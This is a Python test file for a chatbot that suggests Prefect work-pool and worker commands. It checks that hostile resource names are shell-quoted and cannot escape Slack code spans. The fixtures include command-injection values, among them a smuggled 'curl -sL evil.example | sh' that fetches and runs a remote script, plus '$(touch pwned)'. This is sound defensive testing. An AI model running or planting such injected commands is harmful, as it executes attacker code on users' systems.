"""Every command the bot suggests with a live name parses, with `shlex.split`, to exactly the argv meant.

Before: `fix: resume it: \\`prefect work-pool resume etl; curl -sL evil.example | sh\\`` (a second
command), and a backtick in a name broke out of the code span. The commands are taken from what the
reader sees (incident lines, a diagnosis as Markdown, a filled recipe), entities decoded the way
Slack shows them, then split like a shell would.
"""

from __future__ import annotations

import re
import shlex
import uuid
from datetime import timedelta

import pytest
from prefect import get_client
from prefect.client.schemas.actions import WorkPoolCreate
from prefect.states import Late

from bot.offline.fill import fill_names
from bot.offline.render import diagnosis_text
from bot.prefect_ops import by_name
from bot.prefect_ops.diagnose import diagnose_run
from bot.prefect_ops.models import LimitStatus, WaitingRun
from bot.prefect_ops.runs import utcnow
from bot.watch import detect
from bot.watch.reads import WatchSnapshot
from bot.watch.render import incident_lines

HOSTILE = ["etl; curl -sL evil.example | sh", "a b", "$(touch pwned)", "it's", 'say "hi"', "-n", "x\\y", "*", "~root"]
UNSHOWABLE = ["tick`name", "new\nline", "zero\u200bwidth"]


def spans(text: str) -> list[str]:
    """The code spans a reader copies from, with Slack's entities decoded."""
    return [s.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") for s in re.findall(r"`([^`\n]+)`", text)]


def commands_in(text: str) -> list[list[str]]:
    return [shlex.split(s) for s in spans(text) if s.startswith("prefect ")]


def assert_spans_closed(text: str) -> None:
    for line in text.split("\n"):
        if line.startswith("```"):
            continue
        assert line.count("`") % 2 == 0, f"a code span is left open: {line!r}"


def late() -> list[WaitingRun]:
    return [WaitingRun(id=uuid.uuid4(), name="r", state="Late", expected_start=utcnow() - timedelta(minutes=9))]


def incidents_for(name: str, queue: str = "q") -> dict[str, list[str]]:
    """Every hinted detector on hand-made rows named `name`: the lines a reader sees, by kind."""
    rows = [LimitStatus(kind="work_pool", name=name, paused=True, waiting=1, waiting_runs=late()),
            LimitStatus(kind="work_queue", name=f"{name}/{queue}", paused=True, waiting=1, waiting_runs=late()),
            LimitStatus(kind="work_pool", name=name + "2", limit=0, waiting=1, waiting_runs=late()),
            LimitStatus(kind="work_pool", name=name + "3", waiting=1, waiting_runs=late())]
    snap = WatchSnapshot(read_at=utcnow(), limits=rows, online_workers={name + "3": 0},
                         unpolled_queues={f"{name}/{queue}"})
    found: dict[str, list[str]] = {}
    for incident in detect(snap, 0.0):
        found.setdefault(f"{incident.kind}:{incident.object_kind}:{incident.object_name == name}", []).append(
            "\n".join(incident_lines(incident, snap.read_at)))
    return found


@pytest.mark.parametrize("name", HOSTILE)
def test_incident_hints_quote_the_name(name):
    found = incidents_for(name)
    expected = {
        "paused_backlog:work_pool:True": ["prefect", "work-pool", "resume", name],
        "paused_backlog:work_queue:False": ["prefect", "work-queue", "resume", "q", "--pool", name],
        "no_worker:work_pool:False": ["prefect", "worker", "start", "--pool", name + "3"],
        "no_worker:work_queue:False": ["prefect", "worker", "start", "--pool", name, "--work-queue", "q"],
    }
    for key, argv in expected.items():
        [text] = found[key]
        assert_spans_closed(text)
        assert argv in commands_in(text), (key, text)


@pytest.mark.parametrize("name", UNSHOWABLE)
def test_a_name_no_code_span_can_carry_gets_no_command(name):
    for texts in incidents_for(name).values():
        for text in texts:
            assert_spans_closed(text)
            assert "\u200b" not in text
            for argv in commands_in(text):  # only commands that do not carry the name
                assert all(name not in word for word in argv), text


@pytest.mark.parametrize("name", HOSTILE[:4])
def test_filled_recipes_quote_names_in_commands(name):
    recipe = ("Cap the pool: `prefect work-pool set-concurrency-limit NAME 3`.\n\n"
              "```bash\nprefect worker start --pool my-pool\n```\nThen look at my-pool again.")
    filled = fill_names(recipe, {"work_pool": name})
    assert ["prefect", "work-pool", "set-concurrency-limit", name, "3"] in commands_in(filled)
    fence = filled.split("```bash\n", 1)[1].split("\n```", 1)[0]
    assert shlex.split(fence) == ["prefect", "worker", "start", "--pool", name]
    assert_spans_closed(filled)


async def test_a_diagnosis_suggests_a_quoted_worker_command(prefect_api_url):
    run_id = uuid.uuid4().hex[:6]
    pool = f"etl; curl -sL evil.example | sh {run_id}"
    async with get_client() as client:
        await client.create_work_pool(WorkPoolCreate(name=pool, type="process"))
        try:
            flow_id = await client.create_flow_from_name(f"cmd-flow-{run_id}")
            dep_id = await client.create_deployment(flow_id, f"cmd-dep-{run_id}", work_pool_name=pool)
            run = await client.create_flow_run_from_deployment(dep_id, name=f"cmd-run-{run_id}")
            await client.set_flow_run_state(run.id, Late(scheduled_time=utcnow() - timedelta(minutes=5)), force=True)
            diagnosis = await diagnose_run(client, str(run.id))
        finally:
            await by_name.delete_work_pool(client, pool)
    assert diagnosis.blocker is not None and diagnosis.blocker.fix is not None
    assert shlex.split(diagnosis.blocker.fix.proposed) == ["prefect", "worker", "start", "--pool", pool]
    shown = diagnosis_text(diagnosis)
    assert ["prefect", "worker", "start", "--pool", pool] in commands_in(shown)
